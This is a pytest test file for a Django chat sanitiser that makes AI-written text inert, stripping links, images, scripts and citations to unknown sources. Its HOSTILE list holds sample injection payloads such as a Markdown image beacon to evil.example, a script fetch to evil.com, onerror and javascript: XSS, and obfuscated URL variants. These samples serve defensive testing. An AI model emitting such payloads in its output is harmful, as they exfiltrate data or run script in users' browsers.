"""What a model writes links to nothing, loads nothing, and cites what there is."""

from __future__ import annotations

import random
import re

import pytest
from django.utils.html import urlize

from django_obc_ai.chat.inert import InertText, make_inert

HOSTILE = (
    "![status](https://evil.example/p.png?q=Marawi)",
    "[click here](https://evil.example/?q=1)",
    "[a]: https://evil.example\n[a]",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//evil.com')</script>",
    "<https://evil.example/x>",
    "<a href='javascript:alert(1)'>x</a>",
    "javascript:alert(1) data:text/html,x vbscript:x",
    "mailto:thief@evil.com?body=x tel:+639170000000",
    "www.evil.com and evil.com/x?q=secret, thief@evil.com",
    "ht\u200btps://evil.example/\u202e x",
    "java\rscript:alert(1) http:\r//evil.com",
    "HTTPS://EVIL.EXAMPLE/%41 ftp://10.0.0.1/ x-callback://y.z",
    "![a][b]\n\n[b]: <https://evil.example>",
    "java[9]script:alert(1) http [9]://evil.example ht[9]tp:[9]//evil.example evil [9].com/x",
    "javascript:(alert)(1) https://evil.example/(a)",
)
#: Patterns of HTML, Markdown and of programs that find addresses in plain text.
LIVE = (
    re.compile(r"<[a-z/!?]", re.IGNORECASE),
    re.compile(r"!\["),
    re.compile(r"\]\(|\]\[|\]:"),
    re.compile(r"[a-z]://|javascript:\S|\bdata:[.,;)]*\w|\bmailto:|\bwww\.\w", re.IGNORECASE),
)


def whole(text: str, numbers: set[int] | None = None) -> InertText:
    inert = InertText(numbers or set())
    inert.text = inert.feed(text) + inert.finish()  # type: ignore[attr-defined]
    return inert


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_left_that_a_browser_or_a_mail_would_load_or_link(text: str) -> None:
    found = whole(text)
    assert found.is_changed
    shown = found.text  # type: ignore[attr-defined]
    assert not any(pattern.search(shown) for pattern in LIVE), shown
    assert urlize(shown) == urlize(shown, autoescape=False) == shown


@pytest.mark.parametrize("text", [
    "Marawi has 207,010 residents (2024): 12.5 % of the province, e.g. in Brgy. Lilod.",
    "Fewer than < 500, more than > 20; a<5 and x <= 3.",
    "Ang kabuuan ay 1,234.56. Sa Rehiyon XII: wala.",
    "At 10:30, ratio 3:1.\n\n- one\n- two",
])  # fmt: skip
def test_plain_answers_stay_as_they_are(text: str) -> None:
    assert whole(text).text == text  # type: ignore[attr-defined]
    assert not whole(text).is_changed


def test_citations_that_name_no_source_are_dropped() -> None:
    found = whole("Rice [1], corn [3] and both [1, 3;2][2] [99].", {1, 2})
    assert found.text == "Rice [1], corn and both [1, 2] [2]."  # type: ignore[attr-defined]
    assert (found.cited, found.dropped) == ([1, 2], [3, 99])


def test_pieces_join_to_the_same_text_however_it_is_divided() -> None:
    chance = random.Random(20261125)
    texts = [*HOSTILE, "See [1, 2] and [7], then [1,\n 9] [", "x" * 300 + " [2]", "", "  [9]  \n"]
    for text in [*texts, " ".join(texts)]:
        expected = whole(text, {1, 2})
        for _ in range(60):
            inert, out, at = InertText({1, 2}), "", 0
            while at < len(text):
                end = at + chance.randint(1, 9)
                out += inert.feed(text[at:end])
                at = end
            out += inert.finish()
            assert out == expected.text  # type: ignore[attr-defined]
            assert (inert.cited, inert.dropped) == (expected.cited, expected.dropped)


def test_a_stream_shows_no_word_before_it_has_ended() -> None:
    inert = InertText()
    shown = [inert.feed(each) for each in ("See htt", "ps:/", "/evil.example", "/x now", ".")]
    assert "".join(shown) == "See hxxps[:]//evil[.]example/x"
    assert inert.finish() == " now."


def test_make_inert_is_the_same_for_a_whole_text() -> None:
    assert make_inert("go to http://a.b") == "go to hxxp[:]//a[.]b"


def test_random_texts_of_hostile_parts_are_inert_and_the_same_in_any_pieces() -> None:
    chance = random.Random(20261126)
    parts = [
        "[", "]", "(", ")", " ", "  ", "\n", "\t", "1", "2", "9", ",", ";", "a", "!", "<", ">", ":",
        "/", "//", "http", "https://", "javascript:", "data:", "www.", "b.com", "@x.org", "\u200b",
        "\r", "\u2028", "\\", "&", "img", "#", "[9]", " [9]",
        "[1]", "java", "script:", "s:", ".com",
    ]  # fmt: skip
    for _ in range(3_000):
        text = "".join(chance.choice(parts) for _ in range(chance.randint(0, 40)))
        expected = whole(text, {1, 2})
        shown = expected.text  # type: ignore[attr-defined]
        assert not any(pattern.search(shown) for pattern in LIVE), (text, shown)
        inert, out, at = InertText({1, 2}), "", 0
        while at < len(text):
            end = at + chance.randint(1, 9)
            out += inert.feed(text[at:end])
            at = end
        assert out + inert.finish() == shown, text
        assert (inert.cited, inert.dropped) == (expected.cited, expected.dropped)
        assert set(inert.cited) <= {1, 2}
